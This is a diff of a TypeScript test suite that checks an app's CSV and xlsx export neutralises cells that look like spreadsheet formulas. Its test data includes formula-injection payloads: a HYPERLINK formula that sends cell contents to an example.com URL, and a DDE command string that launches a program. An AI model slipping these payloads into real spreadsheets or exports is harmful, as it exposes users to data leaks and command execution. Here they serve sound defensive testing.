@@ -81,11 +81,19 @@ describe('export', () => {
   });
 
   it('writes party names that look like formulas as text: CSV cells get a leading quote, xlsx keeps strings', async () => {
-    const formulas = ['=HYPERLINK("http://example.com/?q="&A1,"点此查看")', "=cmd|' /C calc'!A0", '+1+2', '-2+3', '@SUM(1+1)'];
+    const formulas = [
+      '=HYPERLINK("http://example.com/?q="&A1,"点此查看")',
+      "=cmd|' /C calc'!A0",
+      '+1+2',
+      '-2+3',
+      '@SUM(1+1)',
+    ];
     const own = await setUpStore('140100');
     try {
       // The import takes such names as they are (a party name is free text), one deal per name as its assignor.
-      const rows = dealRows(formulas.length, 1, 'FX').map((row, i) => row.map((cell, c) => (c === 7 ? formulas[i]! : cell)));
+      const rows = dealRows(formulas.length, 1, 'FX').map((row, i) =>
+        row.map((cell, c) => (c === 7 ? formulas[i]! : cell)),
+      );
       const job = await importBytes(own.call, await workbookOf({ 交易: rows }));
       expect(job.report?.rejected).toEqual([]);
 
@@ -107,7 +115,15 @@ describe('export', () => {
   });
 
   it('neutralises tab and carriage-return starts and text like -5 in tables, and keeps number cells numbers', async () => {
-    const table = { title: '公式', columns: ['名称', '数值'], rows: [['\t=1+1', -5], ['\r=1+1', '-5'], ['@A1', 0]] };
+    const table = {
+      title: '公式',
+      columns: ['名称', '数值'],
+      rows: [
+        ['\t=1+1', -5],
+        ['\r=1+1', '-5'],
+        ['@A1', 0],
+      ],
+    };
     const csv = Buffer.from((await store.call('export.table', { ...table, format: 'csv' })).base64, 'base64');
     expect(csv.subarray(3).toString('utf8')).toBe(`名称,数值\r\n'\t=1+1,-5\r\n"'\r=1+1",'-5\r\n'@A1,0\r\n`);
   });
